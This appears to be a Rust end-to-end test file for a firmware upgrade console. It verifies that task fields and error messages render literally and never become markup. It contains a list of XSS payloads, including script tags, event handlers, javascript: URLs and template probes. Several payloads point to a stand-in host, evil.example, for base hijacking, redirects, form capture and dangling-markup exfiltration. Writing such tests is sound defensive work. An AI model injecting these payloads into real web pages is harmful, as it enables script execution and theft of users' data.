//! Markup and scripts in every field of a response are shown literally and never become an element.

use e2e::{Browser, Console, EN, LAMPS, Response, Rig};
use serde_json::{Value, json};
use std::sync::Mutex;
use thirtyfour::Key;
use upgrade_api::paths::{DELETE_TASK, TASK_STATUS, TASKS};

/// Right-to-left override, an unclosed isolate, a family of four code points, a flag.
pub const BIDI: &str = "\u{202e}elosnoc\u{2066} 👩‍👩‍👧 🇨🇳";

/// Texts that would run a script, load a resource or leave their context if they were inserted as markup, and one that
/// would change the direction of a sentence.
pub fn payloads() -> Vec<String> {
    let mut all: Vec<String> = [
        "<img src=x onerror=window.__pwn=1>",
        "<script>window.__pwn=1</script>",
        "\"><script>window.__pwn=1</script>",
        "'><img src=x onerror=window.__pwn=1>",
        "</textarea><script>window.__pwn=1</script>",
        "</title><script>window.__pwn=1</script>",
        "</style><script>window.__pwn=1</script>",
        "</script><script>window.__pwn=1</script>",
        "<svg onload=window.__pwn=1>",
        "<svg><script>window.__pwn=1</script></svg>",
        "<svg><animate onbegin=window.__pwn=1 attributeName=x dur=1s>",
        "<math><mtext><style><img src=x onerror=window.__pwn=1></style></mtext></math>",
        "<iframe srcdoc=\"<script>parent.__pwn=1</script>\"></iframe>",
        "<iframe src=javascript:parent.__pwn=1></iframe>",
        "<a href=javascript:window.__pwn=1>x</a>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=0;url=//evil.example/>",
        "<form action=//evil.example/><input name=token><button>x</button></form>",
        "<img src='//evil.example/?dangling=",
        "<!--",
        "]]><b>x</b>",
        "\" onmouseover=window.__pwn=1 autofocus onfocus=window.__pwn=1 x=\"",
        "{{7*7}}${7*7}#{7*7}<%=7*7%>",
        "`${window.__pwn=1}`",
        "&lt;b&gt; &amp; &#60;img src=x onerror=window.__pwn=1&#62;",
        "javascript:window.__pwn=1",
        "a\u{2028}window.__pwn=1\u{2029}b",
        "%3Cscript%3Ewindow.__pwn=1%3C/script%3E",
        "\\u003cimg src=x onerror=window.__pwn=1\\u003e",
        "<template><b>x</b></template><slot name=x>",
        BIDI,
    ]
    .map(ToOwned::to_owned)
    .into();
    all.push("<b>x</b>".repeat(1280));
    all
}

/// The payload as the page shows a name: with the codes of separators and of characters that change the direction.
pub fn as_name(payload: &str) -> String {
    let controls = ['\u{2028}', '\u{2029}', '\u{202e}', '\u{2066}'];
    let escape = |text: String, control| text.replace(control, &format!("[U+{:04X}]", u32::from(control)));
    controls.into_iter().fold(payload.to_owned(), escape)
}

pub fn task(id: &str, text: &str) -> Value {
    json!({
        "id": id, "product_id": LAMPS, "name": text, "description": text,
        "from_version": "1", "from_version_url": text, "from_version_md5": text, "from_version_size": "1",
        "target_version": "2", "target_version_url": text, "target_version_md5": text, "target_version_size": "2",
        "upgrade_count": "0", "status": text, "creator": text, "create_time": text, text: text,
    })
}

/// Makes the API answer reads of this path, with CORS headers.
pub fn serve_read(rig: &Rig, path: &'static str, response: Response) {
    let response = response.with("access-control-allow-origin", rig.console.name());
    rig.api
        .handle(move |request| (request.path() == path && request.is_read()).then(|| response.clone()));
}

/// Makes the API answer with an empty firmware library and no device counts for every product.
pub fn serve_no_devices(rig: &Rig) {
    let allowed = rig.console.name().to_owned();
    rig.api.handle(move |request| {
        let body = match request.path() {
            path if path.ends_with("/firmware/statistics") => json!({}),
            path if path.ends_with("/firmwares") => json!({ "list": [], "count": 0 }),
            _ => return None,
        };
        let response = Response::json(&body).with("access-control-allow-origin", &allowed);
        request.is_read().then_some(response)
    });
}

/// Makes the API store these tasks in memory and serve reads, starts, stops and deletes of them, with CORS headers.
pub fn serve_tasks(rig: &Rig, tasks: Vec<Value>) {
    let tasks = Mutex::new(tasks);
    serve_no_devices(rig);
    rig.api.handle(move |request| {
        let mut tasks = tasks.lock().unwrap();
        let body: Value = serde_json::from_str(&request.body).unwrap_or_default();
        let mut response = Response::ok("application/json", "");
        match (request.method.as_str(), request.path()) {
            ("GET" | "POST", TASKS) => response = Response::json(&Value::Array(tasks.clone())),
            ("POST", TASK_STATUS) => {
                let changed = tasks.iter_mut().filter(|task| task["id"] == body["upgrade_task_id"]);
                changed.for_each(|task| task["status"] = body["status"].clone());
            }
            ("POST", DELETE_TASK) => tasks.retain(|task| task["id"] != body["id"]),
            _ => return None,
        }
        Some(response.with("access-control-allow-origin", "*"))
    });
}

/// Counts of the page's elements by tag and attributes.
const ELEMENTS: &str = "const counts = {};
    for (const element of document.querySelectorAll('*')) {
        const attributes = element.getAttributeNames().filter(name => name !== 'style').sort();
        const kind = [element.tagName, ...attributes].join(' ');
        counts[kind] = (counts[kind] ?? 0) + 1;
    }
    return counts";

/// Checks that the page has the elements `expected`, unless that is `None`, and returns its elements.
async fn same_elements(browser: &Browser, expected: Option<Value>, payload: &str) -> Option<Value> {
    let elements = browser.run(ELEMENTS).await;
    assert_eq!(elements, *expected.as_ref().unwrap_or(&elements), "{payload}");
    Some(elements)
}

pub async fn texts(browser: &Browser, selector: &str) -> Vec<String> {
    let texts = format!("[...document.querySelectorAll({selector:?})].map(e => e.textContent)");
    serde_json::from_value(browser.eval(&texts).await).unwrap()
}

/// Serves a list with these texts and waits until the page shows it.
async fn show_list(rig: &Rig, console: &Console<'_>, texts: &[String], stopped: bool) {
    let rows = texts.iter().enumerate().map(|(at, text)| {
        let mut task = task(&format!("{}-{at}", text.len()), text);
        if stopped {
            task["status"] = json!("0");
        }
        task
    });
    // Rows that cannot be parsed are shown as raw JSON.
    let unreadable = texts.iter().map(|text| json!({ "id": 7, text: text, "name": text }));
    let rows: Value = rows.chain(unreadable).collect();
    serve_read(rig, TASKS, Response::json(&rows));
    console.button(EN.refresh).click().await;
    let first = "[document.querySelector('td .name')?.textContent,
        document.querySelectorAll('td .badge-unknown').length]";
    let unknown = if stopped { 0 } else { texts.len() };
    console.browser.expect_eval(first, json!([texts[0], unknown])).await;
}

/// Checks that no payload has run and that the attacker has received no request.
pub async fn nothing_ran(rig: &Rig, browser: &Browser) {
    assert_eq!(browser.eval("typeof window.__pwn").await, "undefined");
    assert_eq!(rig.attacker.requests(), []);
}

/// T-XSS-1: every field of the list, the details and the confirmations.
#[tokio::test]
async fn every_field_of_a_list_is_shown_literally() {
    let rig = Rig::start();
    let browser = rig.open(&rig.console.url()).await;
    let console = Console::at_lamps(&browser, &rig.platform).await;
    let payloads = payloads();
    let harmless: Vec<String> = (0..payloads.len()).map(|at| format!("harmless {at}")).collect();
    show_list(&rig, &console, &harmless, false).await;
    let plain = same_elements(&browser, None, "harmless").await;
    show_list(&rig, &console, &payloads, false).await;
    same_elements(&browser, plain, "the payloads").await;
    let names: Vec<String> = payloads.iter().map(|payload| as_name(payload)).collect();
    assert_eq!(texts(&browser, "td .name").await, names);
    assert_eq!(texts(&browser, "td .description").await, payloads);
    let titles = "[...document.querySelectorAll('td .description')].map(e => e.title)";
    assert_eq!(browser.eval(titles).await, json!(payloads));
    for (at, state) in texts(&browser, "td .badge").await.iter().enumerate() {
        let cut: String = payloads[at].chars().take(40).collect();
        assert!(state.contains(&cut), "{state} without {cut}");
    }
    for (at, raw) in texts(&browser, "td .raw").await.iter().enumerate() {
        let json = Value::from(payloads[at].as_str()).to_string();
        let start: String = json.chars().take(40).collect();
        assert!(raw.contains(&start), "{raw} without {start}");
    }

    // Details and confirmations, for all texts but the long one. Actions need a known status.
    show_list(&rig, &console, &payloads, true).await;
    let mut elements = None;
    for payload in payloads.iter().take(payloads.len() - 1).step_by(3) {
        let name = as_name(payload);
        let row = format!(
            "[...document.querySelectorAll('tr')].find(e => e.querySelector('.name')?.textContent === {})",
            json!(name)
        );
        browser.run(&format!("{row}.querySelector('.name').click()")).await;
        let details = "['h2', '.long', '#d-from-url', '#d-from-md5', '#d-target-url', '#d-target-md5']
            .map(selector => document.querySelector('#details ' + selector)?.textContent)";
        let mut shown = vec![payload.as_str(); 6];
        shown[0] = &name;
        browser.expect_eval(details, shown).await;
        elements = same_elements(&browser, elements, payload).await;
        browser.press(Key::Escape).await;
        let delete = format!("{row}.querySelector('.cell-actions > button:nth-of-type(2)').click()");
        browser.run(&delete).await;
        let title = "document.querySelector('#confirm h2')?.textContent";
        browser.expect_eval(title, format!("Delete “{name}”?")).await;
        browser.press(Key::Escape).await;
    }
    nothing_ran(&rig, &browser).await;
    browser.finish().await;
}

/// T-XSS-1: error messages of the platform, in the documented form and as plain text.
#[tokio::test]
async fn every_error_message_is_shown_literally() {
    let rig = Rig::start();
    let browser = rig.open(&rig.console.url()).await;
    browser.allow_log(&["status of 400", "status of 500"]);
    let console = Console::at_lamps(&browser, &rig.platform).await;
    // The console does not repeat a read that failed with 500, unlike one with 502.
    for (status, documented) in [(400, true), (500, false)] {
        let mut elements = None;
        for payload in payloads() {
            let body = match documented {
                true => json!({ "error": { "code": 4_001_001, "msg": payload } }).to_string(),
                false => payload.clone(),
            };
            let response = Response::ok("application/json", body);
            serve_read(&rig, TASKS, Response { status, ..response });
            console.button(EN.refresh).click().await;
            let start: String = payload.chars().take(200).collect();
            let main = async || texts(&browser, "main").await.concat();
            browser
                .wait_until("the message is shown", main, |text| text.contains(&start))
                .await;
            elements = same_elements(&browser, elements, &payload).await;
        }
    }
    nothing_ran(&rig, &browser).await;
    browser.finish().await;
}
